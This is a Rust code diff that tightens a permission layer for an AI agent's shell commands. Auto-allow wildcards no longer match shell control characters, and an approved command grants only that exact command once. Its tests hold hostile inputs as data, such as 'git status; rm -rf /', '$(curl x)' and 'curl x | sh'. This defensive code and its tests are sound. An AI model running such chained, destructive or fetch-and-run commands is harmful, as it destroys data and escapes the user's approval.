@@ -58,30 +58,56 @@ impl<'de> serde::Deserialize<'de> for AutoAllowRule {
 
 /// `*` / `?` wildcard match of the whole `text`.
 pub fn wildcard_match(pattern: &str, text: &str) -> bool {
+    wildcard_match_with(pattern, text, |_| true)
+}
+
+/// Characters that end or chain a shell command, or substitute one: a
+/// wildcard of a command rule never matches them, so `git status*` does not
+/// allow `git status; rm -rf /` (the pattern may still name them literally).
+const SHELL_CONTROL: &[char] = &[';', '&', '|', '`', '$', '(', ')', '<', '>', '\n', '\r'];
+
+/// Wildcard match of a shell command: as [`wildcard_match`], but `*` and
+/// `?` stand for no shell control character.
+pub fn command_match(pattern: &str, text: &str) -> bool {
+    wildcard_match_with(pattern, text, |c| !SHELL_CONTROL.contains(&c))
+}
+
+/// `*` / `?` match of the whole `text`, where a wildcard stands only for
+/// characters `wild` accepts. Runs the pattern as a set of positions, one
+/// text character at a time (no backtracking to get wrong when a star may
+/// not take every character).
+fn wildcard_match_with(pattern: &str, text: &str, wild: impl Fn(char) -> bool) -> bool {
     let p: Vec<char> = pattern.chars().collect();
-    let t: Vec<char> = text.chars().collect();
-    let (mut pi, mut ti) = (0, 0);
-    let (mut star, mut mark) = (None, 0);
-    while ti < t.len() {
-        if pi < p.len() && (p[pi] == '?' || p[pi] == t[ti]) {
-            pi += 1;
-            ti += 1;
-        } else if pi < p.len() && p[pi] == '*' {
-            star = Some(pi);
-            mark = ti;
-            pi += 1;
-        } else if let Some(s) = star {
-            pi = s + 1;
-            mark += 1;
-            ti = mark;
-        } else {
+    // `at[i]`: the text so far can end with the pattern matched up to `i`.
+    let mut at = vec![false; p.len() + 1];
+    let close = |at: &mut Vec<bool>| {
+        // A star may match nothing.
+        for i in 0..p.len() {
+            if at[i] && p[i] == '*' {
+                at[i + 1] = true;
+            }
+        }
+    };
+    at[0] = true;
+    close(&mut at);
+    for c in text.chars() {
+        let mut next = vec![false; p.len() + 1];
+        for i in (0..p.len()).filter(|&i| at[i]) {
+            match p[i] {
+                '*' if wild(c) => next[i] = true,
+                '?' if wild(c) => next[i + 1] = true,
+                '*' | '?' => {}
+                lit if lit == c => next[i + 1] = true,
+                _ => {}
+            }
+        }
+        close(&mut next);
+        if !next.contains(&true) {
             return false;
         }
+        at = next;
     }
-    while pi < p.len() && p[pi] == '*' {
-        pi += 1;
-    }
-    pi == p.len()
+    at[p.len()]
 }
 
 /// What a request is judged by: the card's recorded kind and the text the
@@ -99,9 +125,16 @@ pub fn policy_answer(
     subject: &Subject,
     options: &[PermissionOption],
 ) -> Option<(PermissionOption, String)> {
+    // An execute rule's pattern is over a shell line: its wildcards stop
+    // at anything that would run a second command.
+    let matches = if subject.kind == ToolKind::Execute {
+        command_match
+    } else {
+        wildcard_match
+    };
     let rule = rules
         .iter()
-        .find(|r| r.kind == subject.kind.as_str() && wildcard_match(&r.pattern, &subject.text))?;
+        .find(|r| r.kind == subject.kind.as_str() && matches(&r.pattern, &subject.text))?;
     let option = options
         .iter()
         .find(|o| o.kind == PermissionOptionKind::AllowOnce)?
@@ -161,8 +194,8 @@ impl Choice {
 pub struct Permissions {
     pending: HashMap<u64, Pending>,
     next: u64,
-    /// Allowed execute-like requests of this turn not yet used by a
-    /// terminal: each covers one `terminal/create`.
+    /// Allowed execute requests of this turn not yet used by a terminal:
+    /// each covers one `terminal/create` of the same command.
     grants: Vec<Subject>,
     /// "Always" choices the user made this session (shown, never used to
     /// answer: the agent remembers them).
@@ -194,13 +227,19 @@ impl Permissions {
             ),
         };
         let p = self.pending.remove(&id).expect("checked above");
-        self.record(&p.subject, &choice);
+        // "Run" on the client's own question about a terminal answers for
+        // that terminal only: it grants nothing further.
+        if matches!(p.reply, ReplyTo::Agent(_)) {
+            self.record(&p.subject, &choice);
+        }
         Ok((p, choice))
     }
 
     /// Records a decision (the user's or the policy's) before it is sent.
     pub fn record(&mut self, subject: &Subject, choice: &Choice) {
-        if choice.allows() {
+        // Only an allowed execute request stands for a terminal: a read or
+        // a fetch whose title reads like a command allows no command.
+        if choice.allows() && subject.kind == ToolKind::Execute {
             self.grants.push(subject.clone());
         }
         if let Choice::Selected(o) = choice {
@@ -220,16 +259,21 @@ impl Permissions {
         self.grants.clear();
     }
 
-    /// True (and the grant is used up) when an allowed request of this turn
-    /// covers running `command`: one whose command is the same, else the
-    /// oldest allowed execute request.
+    /// True (and the grant is used up) when an allowed execute request of
+    /// this turn covers running `command`: one whose command is the same up
+    /// to runs of spaces and tabs (a newline separates commands, so it
+    /// counts). Any other command asks: the user allowed what they read,
+    /// not "some command".
     pub fn take_grant(&mut self, command: &str) -> bool {
-        let exact = self
-            .grants
-            .iter()
-            .position(|g| g.text.trim() == command.trim());
-        let any = || self.grants.iter().position(|g| g.kind == ToolKind::Execute);
-        match exact.or_else(any) {
+        let words = |s: &str| {
+            s.trim()
+                .split([' ', '\t'])
+                .filter(|w| !w.is_empty())
+                .collect::<Vec<_>>()
+                .join(" ")
+        };
+        let command = words(command);
+        match self.grants.iter().position(|g| words(&g.text) == command) {
             Some(i) => {
                 self.grants.remove(i);
                 true
@@ -295,6 +339,40 @@ mod tests {
         assert!(!wildcard_match("a?c", "abbc"));
         assert!(wildcard_match("*.rs", "src/a.rs"));
         assert!(!wildcard_match("*.rs", "src/a.rs.bak"));
+        assert!(wildcard_match("a*", "a*b"), "a star in the text is text");
+    }
+
+    #[test]
+    fn command_wildcards_stop_at_shell_control_characters() {
+        let p = "git status*";
+        assert!(command_match(p, "git status --short"));
+        assert!(command_match(p, "git status"));
+        assert!(!command_match(p, "git status; rm -rf /"), ";");
+        assert!(!command_match(p, "git status && rm -rf /"), "&&");
+        assert!(!command_match(p, "git status & rm -rf /"), "&");
+        assert!(!command_match(p, "git status | sh"), "|");
+        assert!(!command_match(p, "git status $(curl x)"), "$(…)");
+        assert!(!command_match(p, "git status `curl x`"), "backticks");
+        assert!(!command_match(p, "git status\nrm -rf /"), "newline");
+        assert!(!command_match(p, "git status > ~/.bashrc"), ">");
+        assert!(!command_match(p, "git status < x"), "<");
+        assert!(!command_match("ls ?", "ls ;"), "? is a wildcard too");
+        assert!(
+            !command_match("*status", "rm x; git status"),
+            "a leading star"
+        );
+        assert!(command_match("*status", "git status"));
+        // Named in the pattern, they are the user's own words.
+        assert!(command_match("make a && make b*", "make a && make b -j2"));
+        assert!(!command_match("make a && make b*", "make a && make b; x"));
+        // A rule over an execute card uses the command match.
+        let rules = vec![rule("execute", "git status*")];
+        assert!(policy_answer(
+            &rules,
+            &subject(ToolKind::Execute, "git status; rm -rf /"),
+            &options()
+        )
+        .is_none());
     }
 
     #[test]
@@ -354,8 +432,11 @@ mod tests {
     fn an_always_answer_is_recorded_but_answers_nothing_later() {
         let mut p = Permissions::default();
         let id = p.add(pending("git status"));
-        let (_, choice) = p.take(id, Some("always")).unwrap();
+        let (pend, choice) = p.take(id, Some("always")).unwrap();
         assert!(choice.allows());
+        // `take` records it for an agent's request (a `Responder` cannot be
+        // made here; the client's own terminal question has no "always").
+        p.record(&pend.subject, &choice);
         assert_eq!(p.always_choices().len(), 1);
         // A later request is pending like any other: nothing answers it.
         let id2 = p.add(pending("rm -rf /"));
@@ -371,20 +452,62 @@ mod tests {
         assert!(p.take(id, Some("no")).is_ok());
     }
 
+    /// An allowed (or rejected) execute request of the agent.
+    fn decide(p: &mut Permissions, text: &str, option: &str) {
+        let o = options().into_iter().find(|o| o.id == option).unwrap();
+        p.record(&subject(ToolKind::Execute, text), &Choice::Selected(o));
+    }
+
     #[test]
     fn grants_cover_one_terminal_each_within_the_turn() {
         let mut p = Permissions::default();
         assert!(!p.take_grant("ls"));
-        let id = p.add(pending("ls -la"));
-        p.take(id, Some("once")).unwrap();
+        decide(&mut p, "ls -la", "once");
         assert!(p.take_grant("ls -la"));
         assert!(!p.take_grant("ls -la"), "used up");
-        let id = p.add(pending("make"));
-        p.take(id, Some("no")).unwrap();
+        decide(&mut p, "make", "no");
         assert!(!p.take_grant("make"), "a rejection grants nothing");
-        let id = p.add(pending("cargo build"));
-        p.take(id, Some("once")).unwrap();
+        decide(&mut p, "cargo build", "once");
         p.new_turn();
         assert!(!p.take_grant("cargo build"), "grants end with the turn");
+    }
+
+    #[test]
+    fn a_grant_covers_only_its_own_command() {
+        let mut p = Permissions::default();
+        decide(&mut p, "make test", "once");
+        assert!(
+            !p.take_grant("curl x | sh"),
+            "no fallback to another command"
+        );
+        assert!(
+            !p.take_grant("make test\ncurl x | sh"),
+            "a newline is not a space"
+        );
+        assert!(
+            p.take_grant("  make \t test "),
+            "the same command, spaced out"
+        );
+        assert!(!p.take_grant("make test"), "used up");
+    }
+
+    #[test]
+    fn only_an_allowed_execute_request_grants_a_terminal() {
+        let mut p = Permissions::default();
+        let once = Choice::Selected(opt("once", "allow_once"));
+        for kind in [
+            ToolKind::Read,
+            ToolKind::Fetch,
+            ToolKind::Other,
+            ToolKind::Edit,
+        ] {
+            p.record(&subject(kind, "curl x|sh"), &once);
+        }
+        assert!(!p.take_grant("curl x|sh"), "a read titled like a command");
+        // "Run" on the client's own question covers that terminal only.
+        let id = p.add(pending("curl x|sh"));
+        let (_, choice) = p.take(id, Some("once")).unwrap();
+        assert!(choice.allows());
+        assert!(!p.take_grant("curl x|sh"), "not a second one");
     }
 }
